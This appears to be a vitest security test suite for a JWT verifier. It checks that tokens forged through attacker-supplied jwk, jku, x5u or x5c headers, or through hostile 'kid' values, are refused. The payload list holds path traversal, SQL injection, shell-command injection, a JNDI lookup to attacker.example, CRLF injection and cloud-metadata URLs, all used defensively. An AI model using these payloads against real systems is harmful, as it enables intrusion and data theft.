import { createTestIssuer, type TestIssuer } from '@scopeward/testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { holdRows } from './hold-rows.ts'
import { compact, signerOf, withHeader } from './mint.ts'
import { type Attack, expectAccepted, expectRefused, testAccepted, testAttacks, useBench } from './support.ts'

holdRows()

const bench = useBench(['ES256', 'ES256', 'Ed25519'])
let attacker: TestIssuer

beforeAll(async () => {
  attacker = await createTestIssuer({ algorithm: 'ES256', clock: bench.clock })
})
afterAll(() => attacker.stop())

/** Signed by the attacker, with header parameters that lead to the attacker's key. */
function byAttacker(parameters: () => Readonly<Record<string, unknown>>): Attack[2] {
  return honest =>
    compact(honest, { header: { ...honest.header, ...parameters() }, sign: signerOf(attacker.signingKey) })
}

describe('KEY1 to KEY3: keys and addresses of keys in the token (RFC 7515 section 4.1, CVE-2018-0114)', () => {
  testAttacks(bench, [
    [
      'KEY1 jwk, and the kid of a published key',
      'signature_invalid',
      byAttacker(() => ({ jwk: attacker.signingKey.publicJwk })),
    ],
    [
      'KEY1 jwk, and no kid',
      'signature_invalid',
      byAttacker(() => ({ jwk: attacker.signingKey.publicJwk, kid: undefined })),
    ],
    [
      'KEY1 jwk, and a kid of its own',
      'key_unknown',
      byAttacker(() => ({ jwk: attacker.signingKey.publicJwk, kid: 'mine' })),
    ],
    ['KEY2 jku to the attacker', 'signature_invalid', byAttacker(() => ({ jku: attacker.jwksUri }))],
    [
      'KEY2 jku to the attacker, and a kid of its own',
      'key_unknown',
      byAttacker(() => ({ jku: attacker.jwksUri, kid: 'mine' })),
    ],
    [
      'KEY2 jku to the address of cloud metadata',
      'signature_invalid',
      byAttacker(() => ({ jku: 'http://169.254.169.254/latest/' })),
    ],
    ['KEY2 jku to a file', 'signature_invalid', byAttacker(() => ({ jku: 'file:///etc/passwd' }))],
    ['KEY2 x5u to the attacker', 'signature_invalid', byAttacker(() => ({ x5u: attacker.jwksUri }))],
    ['KEY3 x5t and x5t#S256', 'signature_invalid', byAttacker(() => ({ x5t: 'AAAA', 'x5t#S256': 'AAAA' }))],
    [
      'KEY5 signed by the other published key',
      'signature_invalid',
      (honest, { issuer }) => compact(honest, { sign: signerOf(issuer.keys[1]!) }),
    ],
    ['KEY5 the kid of the other published key', 'signature_invalid', withHeader({ kid: 'key-2' })],
    ['KEY5 the kid of a key for another algorithm', 'key_unknown', withHeader({ kid: 'key-3' })],
  ])

  testAccepted(bench, [
    [
      'KEY1 jwk of the attacker is ignored where the signature is honest',
      withHeader({ jwk: { kty: 'oct', k: 'AAAA' } }),
    ],
    [
      'KEY2 jku and x5u are ignored where the signature is honest',
      withHeader({ jku: 'https://a.example', x5u: 'https://a.example' }),
    ],
    ['KEY5 no kid, where two published keys fit, one of which signed', withHeader({ kid: undefined })],
    ['KEY3 x5c is ignored where the signature is honest', withHeader({ x5c: ['AAAA'] })],
  ])

  test('KEY2 nobody ever asked the attacker for anything', () => {
    expect(Object.values(attacker.requests)).toEqual([0, 0, 0, 0, 0, 0])
  })
})

const STRANGE_KIDS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'file:///dev/null',
  'https://attacker.example/jwks.json',
  "' OR '1'='1",
  "' UNION SELECT 'secret' --",
  '; touch /tmp/pwned',
  '$(id)',
  '$\u007bjndi:ldap://attacker.example/a}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'ES256:key-1:https://api.example.com',
  'key-1:ES256',
  'undefined',
  'null',
  '0',
  '',
  ' ',
  'key-1 ',
  ' key-1',
  'KEY-1',
  'key-1\u0000',
  'key-1\n',
  'key-1\r\nX-Injected: 1',
  'k\u0435y-1',
  'ke\u0079\u0301-1',
  '\u{1f511}',
  'k'.repeat(512),
] as const

describe('KEY4: kid as a path, a query, a name of JavaScript (RFC 7515 section 4.1.4, CVE-2025-65945, CVE-2025-59936)', () => {
  testAttacks(bench, [
    ...STRANGE_KIDS.map(
      (kid): Attack => [`KEY4 kid ${JSON.stringify(kid.slice(0, 40))}`, 'key_unknown', withHeader({ kid })],
    ),
    ...[1, 0, true, false, null, [], ['key-1'], {}, { toString: 'key-1' }].map(
      (kid): Attack => [`KEY4 kid ${JSON.stringify(kid)}`, 'header_not_accepted', withHeader({ kid })],
    ),
    ['KEY4 kid of 513 characters', 'header_not_accepted', withHeader({ kid: 'k'.repeat(513) })],
  ])

  test('KEY4 a kid of a megabyte does not get as far as a header', async () => {
    const honest = await bench.honest()
    await expectAccepted(bench, honest.token)
    const forged = withHeader({ kid: 'k'.repeat(2 ** 20) })(honest)
    const request = { method: 'GET', url: '/', headers: { authorization: `Bearer ${forged}` } }
    for (const { core } of bench.apis) {
      expect(await core.check(request, 'items:read')).toMatchObject({ denial: { code: 'token_too_large' } })
      await expect(core.verify(forged)).rejects.toMatchObject({ code: 'token_too_large' })
    }
  })

  test('NET1 no kid made an API fetch the key set again within the cool-down', () => {
    expect(bench.issuer.requests.jwks).toBe(bench.apis.length * 3)
  })
})

test('HTTP13 an unknown key, a bad signature and a malformed token are answered alike', async () => {
  const honest = await bench.honest()
  // `expectRefused` compares with one text for all three codes.
  await expectRefused(bench, withHeader({ kid: 'unknown' })(honest), 'key_unknown')
  await expectRefused(bench, compact(honest, { sign: signerOf(attacker.signingKey) }), 'signature_invalid')
  await expectRefused(bench, `${honest.token}.e30`, 'token_malformed')
})
